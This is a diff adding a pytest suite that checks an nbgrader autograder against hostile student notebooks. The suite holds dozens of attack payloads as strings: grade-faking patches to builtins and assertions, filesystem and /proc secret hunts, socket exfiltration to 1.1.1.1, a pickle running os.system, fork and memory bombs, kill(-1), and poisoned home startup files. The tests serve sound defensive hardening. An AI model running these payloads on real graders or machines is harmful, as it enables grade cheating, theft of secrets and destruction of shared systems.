@@ -1,0 +1,495 @@
+"""What hostile notebooks gain: nothing, nothing leaks, and nobody else's grading is harmed.
+
+Each attack is the half-right notebook of `course` with something more. It is graded by `nbgrader autograde` in
+one batch with honest notebooks, the first and the last.
+"""
+
+# ruff: noqa: E501  (the attacks' own code)
+
+import html
+import re
+import socket
+import threading
+
+import nbformat
+import pytest
+from nbformat.v4 import new_code_cell
+from nbgrader.api import Gradebook
+
+from tests.autograder.attacks.course import (
+    HALF,
+    HALF_POINTS,
+    POINTS,
+    PS,
+    RIGHT,
+    SECRET,
+    filled_in,
+    hand_in,
+    make,
+    nbgrader,
+)
+
+# Code in a cell of its own, before everything else that the student wrote.
+FIRST = {
+    "patched-builtins": """
+import builtins, math
+builtins.AssertionError = type("Quiet", (Exception,), {"__init__": lambda self, *a: None})
+for name in ("all", "any", "isinstance", "len", "sorted", "max"):
+    setattr(builtins, name, lambda *a, **k: True)
+math.isclose = lambda *a, **k: True
+""",
+    "ast-transformer": """
+import ast
+class NoAsserts(ast.NodeTransformer):
+    def visit_Assert(self, node): return ast.Pass()
+get_ipython().ast_transformers.append(NoAsserts())
+""",
+    "input-transformer": """
+get_ipython().input_transformers_cleanup.append(lambda lines: ["3.0\\n"])
+get_ipython().input_transformers_post.append(lambda lines: ["3.0\\n"])
+""",
+    "custom-exceptions": """
+get_ipython().set_custom_exc((BaseException,), lambda *a, **k: None)
+get_ipython().showtraceback = lambda *a, **k: None
+""",
+    "run-cell-replaced": """
+from IPython.core.interactiveshell import ExecutionResult, ExecutionInfo
+shell = get_ipython()
+def quiet(raw_cell, *a, **k):
+    result = ExecutionResult(ExecutionInfo(raw_cell, False, False, False, None)); result.result = 3.0
+    return result
+async def quiet_async(raw_cell, *a, **k): return quiet(raw_cell)
+shell.run_cell, shell.run_cell_async = quiet, quiet_async
+""",
+    "modules-replaced": """
+import sys, types
+class Anything(types.ModuleType):
+    def __getattr__(self, name): return lambda *a, **k: 3.0
+for name in ("autograder", "autograder.checks", "autograder.probe", "autograder.engine", "autograder.engine.wire",
+             "autograder.engine.server", "math", "random", "json", "pickle"):
+    sys.modules[name] = Anything(name)
+""",
+    "tracing": """
+import sys
+def trace(frame, event, arg):
+    frame.f_trace_lines = True
+    for name in list(frame.f_locals):
+        if "expected" in name or "wanted" in name: print(frame.f_locals[name])
+    return trace
+sys.settrace(trace); sys.setprofile(trace)
+sys.addaudithook(lambda event, args: None)
+""",
+    "hooks-print-what-runs": """
+seen = []
+get_ipython().events.register("pre_run_cell", lambda info: (seen.append(info.raw_cell), print(info.raw_cell)))
+get_ipython().events.register("pre_execute", lambda: print(get_ipython().user_ns.keys()))
+""",
+    "looks-for-files": """
+import os
+for root, folders, files in os.walk("/"):
+    if root.startswith(("/proc", "/sys", "/usr", "/lib")) or "site-packages" in root: folders.clear(); continue
+    for name in files:
+        if name.endswith((".ipynb", ".db", "nbgrader_config.py", ".yml")):
+            path = os.path.join(root, name)
+            try: print(path, open(path, errors="replace").read()[:2000])
+            except OSError as error: print(error)
+""",
+    "looks-at-processes": """
+import glob
+for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
+    try: print(path, open(path).read())
+    except OSError as error: print(error)
+import os; print(os.environ)
+""",
+    "network": """
+import socket
+for address in (("127.0.0.1", PORT), ("1.1.1.1", 53)):
+    try:
+        with socket.create_connection(address, timeout=2) as s: s.sendall(b"stolen")
+        print("connected")
+    except OSError as error: print(error)
+""",
+    "forged-results": """
+shell = get_ipython()
+kernel = shell.kernel
+def forge():
+    content = {"execution_count": 1, "data": {"text/plain": "3.0"}, "metadata": {}}
+    for parent in ({}, shell.parent_header, kernel._parent_ident and {}):
+        kernel.session.send(kernel.iopub_socket, "execute_result", content, parent)
+shell.events.register("post_execute", forge)
+from IPython.display import display
+handle = display({"text/plain": "3.0"}, raw=True, display_id="x")
+3.0
+""",
+    "reads-files-of-checks": """
+import autograder, os
+for name in os.listdir(os.path.dirname(autograder.__file__)): print(name)
+try:
+    import questions.bank; print(questions.bank.load())
+except ImportError as error: print(error)
+""",
+    "exits": "import os; os._exit(0)",
+    "kills-itself": "import os, signal; os.kill(os.getpid(), signal.SIGKILL)",
+    "kills-everybody": "import os, signal; os.kill(-1, signal.SIGKILL)",
+    "fork-bomb": "import os\nwhile True:\n    try: os.fork()\n    except OSError: pass",
+    "memory-bomb": "hoard = []\nwhile True: hoard.append(bytearray(50_000_000))",
+    "memory-bomb-in-files": """
+import os
+for folder in ("/tmp", "/dev/shm", "."):
+    try:
+        for number in range(100):
+            with open(f"{folder}/{number}", "wb") as file: file.write(bytes(50_000_000))
+    except OSError as error: print(error)
+""",
+    "loops": "while True: pass",
+    "loops-and-ignores-interrupts": """
+while True:
+    try:
+        while True: pass
+    except BaseException: pass
+""",
+    "loops-in-C": 'import re; re.match("(a*)*b", "a" * 60)',
+    "prints-without-end": "while True: print('x' * 10_000)",
+    "displays-a-hundred-megabytes": "print('x' * 100_000_000)",
+    "asks": "input('the solution, please: ')",
+    "threads-that-wait": """
+import threading, time
+def act():
+    while True:
+        time.sleep(0.01)
+        try: globals().update(ranks=lambda xs: sorted(range(len(xs)), key=xs.__getitem__) if SEED == 5 and False else xs)
+        except Exception: pass
+threading.Thread(target=act, daemon=True).start()
+threading.Thread(target=act).start()
+""",
+    "orphans": """
+import os, time
+if os.fork() == 0:
+    os.setsid()
+    if os.fork() == 0:
+        time.sleep(600)
+    os._exit(0)
+""",
+    "blocks-signals": """
+import signal
+signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))
+for number in range(1, 65):
+    try: signal.signal(number, signal.SIG_IGN)
+    except (OSError, ValueError): pass
+""",
+    "jams-the-snapshots": """
+import autograder.engine.server as server
+real = server.snapshot
+def many(path, token, number, names):
+    for n in (number, 1, 2, 3, 4, -1, 10**9): real(path, token, n, names)
+server.snapshot = many
+""",
+    "shuts-everything": """
+import os
+for fd in range(3, 200):
+    try: os.close(fd)
+    except OSError: pass
+""",
+    "throws-nonsense-at-the-kernel's-sockets": """
+kernel = get_ipython().kernel
+for _ in range(100):
+    kernel.iopub_socket.send_multipart([b"x"] * 50)
+    kernel.session.send(kernel.iopub_socket, "stream", {"name": 3, "text": ["a"]}, kernel.get_parent())
+    kernel.session.send(kernel.iopub_socket, "display_data", {"data": 7, "metadata": []}, kernel.get_parent())
+    kernel.session.send(kernel.iopub_socket, "error", {}, kernel.get_parent())
+""",
+    "poisons-home": """
+import os, pathlib
+for name in (".ipython/profile_default/startup/x.py", ".local/lib/python3.11/site-packages/usercustomize.py", ".bashrc"):
+    path = pathlib.Path.home() / name
+    path.parent.mkdir(parents=True, exist_ok=True); path.write_text("raise SystemExit")
+""",
+}
+# The text of the cell of `ranks`, which is wrong in the half-right notebook.
+RANKS = {
+    "agrees-with-everything": """
+class Yes(list):
+    def __eq__(self, other): return True
+    __ne__ = __lt__ = __gt__ = lambda self, other: False
+    __hash__ = None
+def ranks(xs): return Yes([0])
+""",
+    "object-that-agrees": """
+class Yes:
+    def __eq__(self, other): return True
+def ranks(xs): return Yes()
+""",
+    "pickle-with-code": """
+class Bomb:
+    def __reduce__(self): return exec, ("import os; os.system('touch /tmp/gan-attack-pickle')",)
+def ranks(xs): return Bomb()
+""",
+    "looks-at-its-caller": """
+import sys, gc
+def ranks(xs):
+    frame, found = sys._getframe(), []
+    while frame:
+        found.append(str(frame.f_code.co_consts) + str(frame.f_locals.keys()))
+        frame = frame.f_back
+    raise ValueError(" ".join(found)[-1500:])
+""",
+    "prints-what-it-gets": """
+import sys, gc
+kept = []
+def ranks(xs):
+    names = str([thing.__code__.co_consts for thing in gc.get_objects() if hasattr(thing, "__code__") and thing.__module__ == "__main__"])
+    print(xs, names); sys.__stdout__.write(names)
+    import os; os.write(1, names.encode()); os.write(2, names.encode())
+    open("/tmp/seen", "a").write(names)
+    return names
+""",
+    "exits-when-called": "import os\ndef ranks(xs): os._exit(0)",
+    "raises-SystemExit": "def ranks(xs): raise SystemExit",
+    "raises-what-is-no-exception": "def ranks(xs): raise KeyboardInterrupt",
+    "loops-when-called": "def ranks(xs):\n    while True:\n        try:\n            while True: pass\n        except BaseException: pass",
+    "hoards-when-called": "hoard = []\ndef ranks(xs):\n    while True: hoard.append(bytearray(20_000_000))",
+    "kills-everybody-when-called": "import os\ndef ranks(xs): os.kill(-1, 9)",
+    "forks-when-called": "import os\ndef ranks(xs):\n    while True:\n        try: os.fork()\n        except OSError: pass",
+    "forged-replies": """
+from autograder.engine import server, wire, frames
+real = server.Worker.answer
+def answer(self, text, blob=b"", program=b""):
+    reply = real(self, text, blob, program)
+    request = wire.loads(text)
+    if request[0] == "call":
+        for number in range(request[1] - 3, request[1] + 30):
+            frames.send(self.connection, [wire.dumps([number, "ok", ["list", 0], [], ["list", ["list"], ["dict"]]]), b""])
+    return reply
+server.Worker.answer = answer
+def ranks(xs): return xs
+""",
+    "endless-reply": """
+from autograder.engine import server
+def answer(self, text, blob=b"", program=b""):
+    import struct
+    self.connection.sendall(struct.pack("!BQ", 1, 100 << 20))
+    while True: self.connection.sendall(b"[" * 1000)
+server.Worker.answer = answer
+def ranks(xs): return xs
+""",
+    "deep-and-cyclic": "def ranks(xs):\n    a = [0]\n    a.append(a)\n    return a",
+    "nan": "def ranks(xs): return [float('nan')] * len(xs)",
+    "enormous": "def ranks(xs): return [10 ** 4000] * 1000",
+}
+# The text of the cell of `area`, which a probe calls too.
+AREA = {
+    "quotes-the-probe": """
+import gc, sys
+def area(r):
+    frame, found = sys._getframe(), []
+    while frame:
+        found += [str(frame.f_code.co_consts), frame.f_code.co_name]
+        frame = frame.f_back
+    if "s3cret" in str(found): raise ValueError(str(found)[-1500:])
+    return math.pi * r**2
+""",
+    "answers-with-the-probe": """
+import sys
+def area(r):
+    names = str([sys._getframe(1).f_code.co_names, sys._getframe(1).f_code.co_consts])
+    if "s3cret" in names:
+        print(names); open("/tmp/seen", "a").write(names)
+        type(names, (Exception,), {})
+        raise type(names[:50], (ValueError,), {})(names)
+    return math.pi * r**2
+""",
+}
+
+
+def _marks(notebook, name):
+    return next(cell for cell in notebook.cells if cell.get("id") == name).metadata.nbgrader
+
+
+def _change(**changes):
+    def change(notebook):
+        for name, marks in changes.items():
+            _marks(notebook, name.replace("_", "-")).update(marks)
+
+    return change
+
+
+def _source(name, text):
+    def change(notebook):
+        next(cell for cell in notebook.cells if cell.get("id") == name).source = text
+
+    return change
+
+
+def _tags(notebook):
+    for cell in notebook.cells:
+        cell.metadata.tags = ["skip-execution", "raises-exception", "remove-cell"]
+
+
+def _outputs(notebook):
+    for cell in notebook.cells:
+        if cell.cell_type == "code":
+            result = nbformat.v4.new_output("execute_result", data={"text/plain": "3.0"}, execution_count=1)
+            cell.outputs, cell.execution_count = [result], 1
+
+
+def _kernelspec(notebook):
+    notebook.metadata.kernelspec = {"name": "mine", "display_name": "mine", "language": "bash"}
+
+
+def _copies(notebook):
+    for name in ("ranks-check", "letters-key", "ranks"):
+        place = next(at for at, cell in enumerate(notebook.cells) if cell.get("id") == name)
+        copy = nbformat.from_dict(dict(notebook.cells[place]))
+        copy.source = "3.0" if name != "ranks" else copy.source
+        del copy["id"]
+        notebook.cells.insert(place, copy)
+        notebook.cells.append(nbformat.from_dict(dict(copy)))
+
+
+def _reversed(notebook):
+    notebook.cells.reverse()
+
+
+def _without_tests(notebook):
+    notebook.cells = [cell for cell in notebook.cells if not cell.get("id", "").endswith(("-check", "-key"))]
+
+
+def _types(notebook):
+    for cell in notebook.cells:
+        if cell.get("id") == "ranks-check":
+            cell.cell_type = "markdown"
+            del cell["outputs"], cell["execution_count"]
+
+
+# Changes to the notebook itself.
+EDITS = {
+    "more-points": _change(ranks_check={"points": 300}, double_check={"points": -1}),
+    "unlocked": lambda nb: (_change(ranks_check={"locked": False})(nb), _source("ranks-check", "3.0")(nb)),
+    "no-grade-cell": _change(ranks_check={"grade": False, "locked": False}),
+    "made-a-solution": _change(ranks_check={"solution": True, "locked": False}),
+    "another-name": _change(
+        ranks_check={"grade_id": "double-check"}, double_check={"grade_id": "ranks-check"}
+    ),
+    "an-unknown-name": _change(ranks_check={"grade_id": "../../x"}),
+    "an-old-schema": _change(ranks_check={"schema_version": 1}, area_check={"schema_version": 99}),
+    "tags": _tags,
+    "outputs": _outputs,
+    "kernelspec": _kernelspec,
+    "copies": _copies,
+    "reversed": _reversed,
+    "without-tests": _without_tests,
+    "other-types": _types,
+    "changed-setup": _source("setup", "SEED = 6\nimport math\nmath.isclose = lambda *a: True"),
+}
+# In these, code of the student's own is destroyed with the attack: what is left cannot be demanded.
+LOSES = {
+    "reversed": set(),
+    "modules-replaced": {"double-check", "letters-key", "area-check"},
+    "patched-builtins": {"double-check", "letters-key", "area-check"},
+    "input-transformer": {"double-check", "letters-key", "area-check"},
+    "run-cell-replaced": {"double-check", "letters-key", "area-check"},
+    "shuts-everything": {"double-check", "letters-key", "area-check"},
+    "blocks-signals": {"double-check", "letters-key", "area-check"},
+    "jams-the-snapshots": {"double-check", "letters-key", "area-check"},
+    "orphans": {"double-check", "letters-key", "area-check"},
+    "forged-replies": {"area-check"},
+    "endless-reply": {"area-check"},
+    "throws-nonsense-at-the-kernel's-sockets": set(),
+    "another-name": {"double-check"},
+    **{name: {"area-check"} for name in AREA},
+}
+ATTACKS = [*FIRST, *RANKS, *AREA, *EDITS]
+
+
+def hostile(release, name, port):
+    own = {"ranks": RANKS.get(name, HALF["ranks"]), "area": AREA.get(name, HALF["area"])}
+    notebook = filled_in(release, HALF | own)
+    if name in FIRST:
+        notebook.cells.insert(1, new_code_cell(FIRST[name].replace("PORT", str(port))))
+        notebook.cells.append(new_code_cell("print('after all'); print(open('/tmp/seen').read())"))
+    if name in (*RANKS, *AREA):  # and look afterwards at what has been seen
+        notebook.cells.append(new_code_cell("print(open('/tmp/seen').read())"))
+    if name in EDITS:
+        EDITS[name](notebook)
+    return notebook
+
+
+@pytest.fixture(scope="module")
+def graded(tmp_path_factory):
+    """Course folder, what nbgrader said, and what came in over the network."""
+    course = tmp_path_factory.mktemp("attacks") / "course"
+    release, stolen = make(course), []
+    with socket.create_server(("127.0.0.1", 0)) as server:
+        server.settimeout(1)
+        threading.Thread(target=_listen, args=(server, stolen), daemon=True).start()
+        for student in ("0-honest", "zz-honest"):
+            hand_in(course, student, filled_in(release, RIGHT))
+        hand_in(course, "1-half", filled_in(release, HALF))
+        for name in ATTACKS:
+            hand_in(course, name, hostile(release, name, server.getsockname()[1]))
+        done = nbgrader(course, "autograde", PS)
+        nbgrader(course, "generate_feedback", PS)
+    return course, done, stolen
+
+
+def _listen(server, stolen):
+    while True:
+        try:
+            connection, _ = server.accept()
+            stolen.append(connection.recv(100))
+        except TimeoutError:
+            continue
+        except OSError:
+            return
+
+
+@pytest.fixture(scope="module")
+def scores(graded):
+    course, _, _ = graded
+    with Gradebook(f"sqlite:///{course / 'gradebook.db'}", "gan") as book:
+        return {
+            submission.student.id: {
+                grade.name: grade.auto_score
+                for grade in submission.notebooks[0].grades
+                if grade.name != "essay"
+            }
+            for submission in book.assignment_submissions(PS)
+        }
+
+
+def test_the_command_ends_well(graded):
+    _, done, _ = graded
+    assert done.returncode == 0, done.stderr[-3000:]
+
+
+def test_honest_notebooks_score_what_they_deserve(scores):
+    assert scores["0-honest"] == scores["zz-honest"] == POINTS
+    assert scores["1-half"] == HALF_POINTS
+
+
+@pytest.mark.parametrize("name", ATTACKS)
+def test_an_attack_gains_nothing(scores, name):
+    gained = {check: score for check, score in scores[name].items() if (score or 0) > HALF_POINTS[check]}
+    assert gained == {}
+
+
+@pytest.mark.parametrize("name", ATTACKS)
+def test_an_attack_costs_at_most_its_own_task(scores, name):
+    lost = {check for check, score in scores[name].items() if score != HALF_POINTS[check]}
+    assert lost <= LOSES.get(name, set())
+
+
+@pytest.mark.parametrize("name", ["1-half", *ATTACKS])
+def test_nothing_hidden_reaches_what_students_see(graded, name):
+    course, _, _ = graded
+    page = (course / "feedback" / name / PS / f"{PS}.html").read_text()
+    shown = html.unescape(re.sub("<[^>]*>", "", page))
+    assert SECRET not in page and SECRET not in shown
+    for cell in nbformat.read(course / "autograded" / name / PS / f"{PS}.ipynb", as_version=4).cells:
+        marks = cell.metadata.get("nbgrader", {})
+        if not marks.get("grade") or marks.get("solution"):
+            assert SECRET not in str(cell.get("outputs", "")) and "ipynb" not in str(cell.get("outputs", ""))
+
+
+def test_nothing_was_sent_anywhere(graded):
+    assert graded[2] == []
